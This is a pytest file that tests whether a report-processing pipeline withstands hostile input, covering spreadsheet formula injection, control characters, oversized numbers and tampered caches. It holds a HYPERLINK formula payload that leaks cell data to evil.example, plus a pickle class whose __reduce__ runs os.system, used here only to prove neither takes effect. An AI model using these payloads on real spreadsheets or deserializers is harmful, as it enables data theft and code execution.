"""Issue 17: trust under attack and failure.

One batch of hostile-but-plausible reports (a GBK file name, control characters, formula text, a
23-digit count) is built once with the real CLI; the tests then check that it finished, that no
workbook cell from report text is a formula, that the CSVs are neutralised for spreadsheets while
Parquet keeps the raw text, and that numbers are exact. The cache and writer tests work on real
generated reports, in process.
"""
from __future__ import annotations

import os
import pickle
import random
import sqlite3
import subprocess
import sys
import zlib
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from tests import generate as g
from tests.render_html import write_html

REPO = Path(__file__).resolve().parents[1]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
GBK_NAME = "报告2022".encode("gbk") + b".docx"   # what unzipping a Windows zip gives
HUGE = "99999999999999999999999"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"x")'


def ogi(*args, check=False, env=None):
    return subprocess.run([sys.executable, "-m", "ogi.cli", *map(str, args)], capture_output=True, text=True,
                          cwd=REPO, check=check, env=env)


def _truth(seed: int, agency: str | None = None, year: int = 2022) -> g.Truth:
    truth = g.random_truth(random.Random(seed), "2021")
    truth.year = year
    if agency:
        truth.agency = agency
    return truth


def _number_field(truth: g.Truth, prefix: str) -> str:
    return next(f for f, k in truth.kinds.items() if f.startswith(prefix) and k == "number")


def hostile_html(path: Path, seed: int = 5) -> g.Truth:
    """A web page report whose agency, section text and cells carry formulas and control characters,
    and one table-3 count printed off by one (so the audit lists it, raw cells included)."""
    truth = _truth(seed, agency="=2*21人民政府")
    wrong = _number_field(truth, "t3.new.")
    truth.raw[wrong] = str(int(truth.values[wrong]) + 1)
    text = _number_field(truth, "t3.granted.")
    truth.raw[text] = "=1+2"
    write_html(truth, path, rng=random.Random(seed))
    page = path.read_text(encoding="utf-8")
    page = page.replace("加强培训，提升工作质量。", f"{HYPERLINK.replace('&', '&amp;')}控制\x01字符\x1f。")
    path.write_text(page, encoding="utf-8")
    return truth


def huge_count_html(path: Path, seed: int = 6) -> tuple[g.Truth, str]:
    truth = _truth(seed)
    fid = _number_field(truth, "t3.new.")
    truth.raw[fid] = HUGE
    write_html(truth, path, rng=random.Random(seed))
    return truth, fid


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    src = root / "in"
    src.mkdir()
    good = _truth(7)
    g.write_docx(good, src / "good.docx", rng=random.Random(7))
    g.write_docx(_truth(8), os.fsdecode(os.path.join(os.fsencode(src), GBK_NAME)), rng=random.Random(8))
    hostile = hostile_html(src / "hostile.html")
    huge, huge_field = huge_count_html(src / "huge.html")
    out = root / "out"
    proc = ogi("build", src, "-o", out, "-j", "0", "-q")
    return {"root": root, "src": src, "out": out, "proc": proc, "hostile": hostile, "huge": huge,
            "huge_field": huge_field, "good": good}


def test_hostile_batch_finishes_with_every_output(hostile_run):
    proc, out = hostile_run["proc"], hostile_run["out"]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "read 4, failed 0" in proc.stdout
    for name in ("reports.parquet", "dataset.xlsx", "audit.xlsx", "audit.html", "indicators.parquet",
                 "datapackage.json"):
        assert (out / name).exists(), name


def test_gbk_file_name_is_read_and_keeps_its_bytes(hostile_run):
    reports = pd.read_parquet(hostile_run["out"] / "reports.parquet")
    row = reports[reports["source"].str.endswith("报告2022.docx")]
    assert len(row) == 1
    assert repr(GBK_NAME)[2:-1] in row["warnings"].iloc[0]  # the original bytes, kept
    assert row["year"].iloc[0] == 2022


def test_control_characters_are_removed_from_the_workbook_and_kept_in_parquet(hostile_run):
    out = hostile_run["out"]
    reports = pd.read_parquet(out / "reports.parquet")
    hostile = reports[reports["source"].str.endswith("hostile.html")].iloc[0]
    text = "".join(str(hostile[c]) for c in reports.columns if c.startswith("text_"))
    assert "控制\x01字符\x1f" in text  # raw, in Parquet
    cells = [c.value for ws in load_workbook(out / "dataset.xlsx") for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, str) and "控制字符" in v for v in cells)


def _workbook_cells(path: Path):
    for ws in load_workbook(path):
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def test_no_formula_in_any_written_workbook(hostile_run):
    out = hostile_run["out"]
    books = sorted(out.glob("*.xlsx"))
    assert {p.name for p in books} == {"dataset.xlsx", "audit.xlsx"}
    seen = set()
    for book in books:
        for sheet, cell in _workbook_cells(book):
            assert cell.data_type != "f", (book.name, sheet, cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith("="):
                seen.add((book.name, cell.value))
    # the hostile text did reach both workbooks, as text
    assert ("dataset.xlsx", "=2*21人民政府") in seen
    assert any(name == "audit.xlsx" and value == "=2*21人民政府" for name, value in seen)
    assert ("audit.xlsx", "=1+2") in seen  # a raw table cell in the audit's table sheets
    assert any(name == "dataset.xlsx" and value.startswith(HYPERLINK) for name, value in seen)


def test_csvs_are_neutralised_for_spreadsheets_and_parquet_keeps_raw(hostile_run):
    out = hostile_run["out"]
    checked = 0
    for path in sorted(out.glob("*.csv")):
        frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        for col in frame.columns:
            for value in frame[col]:
                if value.startswith(FORMULA_START):
                    assert _plain_number(value), (path.name, col, value)
                    checked += 1
    reports = pd.read_csv(out / "reports.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert "'=2*21人民政府" in set(reports["agency"])
    assert "=2*21人民政府" in set(pd.read_parquet(out / "reports.parquet")["agency"])
    findings = pd.read_csv(out / "findings.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert "'=2*21人民政府" in set(findings["agency"])


def _plain_number(text: str) -> bool:
    from ogi.sheetsafe import PLAIN_NUMBER

    return bool(PLAIN_NUMBER.match(text))


def test_a_count_too_large_for_an_exact_integer_is_missing_with_a_warning(hostile_run):
    out, fid = hostile_run["out"], hostile_run["huge_field"]
    reports = pd.read_parquet(out / "reports.parquet")
    row = reports[reports["source"].str.endswith("huge.html")].iloc[0]
    assert pd.isna(row[fid])
    assert f"{fid}: a printed count above" in row["warnings"]
    values = pd.read_parquet(out / "values.parquet")
    cell = values[(values["source"].str.endswith("huge.html")) & (values["field"] == fid)].iloc[0]
    assert cell["raw"] == HUGE and pd.isna(cell["value"])
    # the other counts of the same report are exact integers
    truth = hostile_run["huge"]
    other = _number_field(truth, "t3.granted.")
    assert row[other] == truth.values[other]


def test_integers_are_exact_up_to_2_to_the_53():
    from ogi.dataset import MAX_EXACT_INT, _as_int

    column = pd.Series([float(MAX_EXACT_INT), 12.0, None, 2.5, 1e23, -3.0], dtype=object)
    ints, too_large = _as_int(column)
    assert ints.tolist()[:2] == [MAX_EXACT_INT, 12]
    assert ints.isna().tolist() == [False, False, True, True, True, False]
    assert too_large == [4]


# ---------------------------------------------------------------- writers and the cache, in process

def _report(tmp_path: Path, seed: int, name: str):
    from ogi.pipeline import process

    path = tmp_path / name
    g.write_docx(_truth(seed), path, rng=random.Random(seed))
    report = process(str(path))
    assert not hasattr(report, "stage"), report
    return report


def test_writer_rejection_of_one_report_becomes_an_errors_line(tmp_path):
    from ogi.output import write_dataset_chunks
    from ogi.pipeline import chunks

    good, bad = _report(tmp_path, 11, "good.docx"), _report(tmp_path, 12, "bad.docx")
    bad.sections["text_other"] = "a lone surrogate \udcb1 Arrow cannot encode"
    out = tmp_path / "out"
    counts = write_dataset_chunks(chunks([(good.source, good), (bad.source, bad)]), out)
    assert counts["read"] == 1 and counts["failed"] == 1
    errors = pd.read_csv(out / "errors.csv", encoding="utf-8-sig")
    assert errors[["source", "stage"]].values.tolist() == [[bad.source, "write"]]
    assert pd.read_parquet(out / "reports.parquet")["source"].tolist() == [good.source]


class _Exploit:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_a_crafted_cache_row_cannot_run_code(tmp_path):
    from ogi.cache import CACHE_NAME, PAYLOAD_SCHEMA, Cache

    src = tmp_path / "in"
    src.mkdir()
    g.write_docx(_truth(13), src / "r.docx", rng=random.Random(13))
    out = tmp_path / "out"
    env = dict(os.environ, OGI_PIPELINE_VERSION="trust-test")
    assert ogi("build", src, "-o", out, "-j", "0", "-q", env=env).returncode == 0
    marker = tmp_path / "pwned"
    evil = pickle.dumps(_Exploit(marker))
    db = sqlite3.connect(out / CACHE_NAME)
    # the row as an attacker would write it: right key, version and schema, a pickle as payload
    db.execute("UPDATE documents SET payload = ?", (evil,))
    db.execute("INSERT INTO documents (path, size, mtime_ns, sha256, version, kind, stage, schema, payload, "
               "seconds, stored) VALUES (?, 1, 1, NULL, 'trust-test', 'report', NULL, ?, ?, 0, 0)",
               (os.fsencode(str(src / "other.docx")), PAYLOAD_SCHEMA, zlib.compress(evil)))
    db.commit()
    db.close()
    g.write_docx(_truth(16), src / "new.docx", rng=random.Random(16))  # the dataset is rewritten from the cache
    proc = ogi("build", src, "-o", out, "-j", "0", "-q", env=env)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert not marker.exists()
    with Cache(out / CACHE_NAME, version="trust-test") as cache:
        assert cache.get(str(src / "r.docx")).meta.year == 2022  # read again, stored as data


def test_an_unopenable_cache_is_moved_aside_and_rebuilt(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    g.write_docx(_truth(14), src / "r.docx", rng=random.Random(14))
    out = tmp_path / "out"
    out.mkdir()
    (out / "cache.sqlite").write_bytes(b"SQLite format 3\x00" + os.urandom(3000))
    proc = ogi("build", src, "-o", out, "-j", "0", "-q")
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "moved aside" in proc.stderr and proc.stderr.count("\n") <= 3
    assert len(list(out.glob("cache.sqlite.broken-*"))) == 1
    assert "read 1, failed 0" in proc.stdout


def test_force_never_reads_the_old_cache(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    g.write_docx(_truth(15), src / "r.docx", rng=random.Random(15))
    out = tmp_path / "out"
    out.mkdir()
    (out / "cache.sqlite").write_bytes(b"garbage" * 100)
    proc = ogi("build", src, "-o", out, "-j", "0", "-q", "--force")
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "moved aside" not in proc.stderr
    assert "read 1, failed 0" in proc.stdout
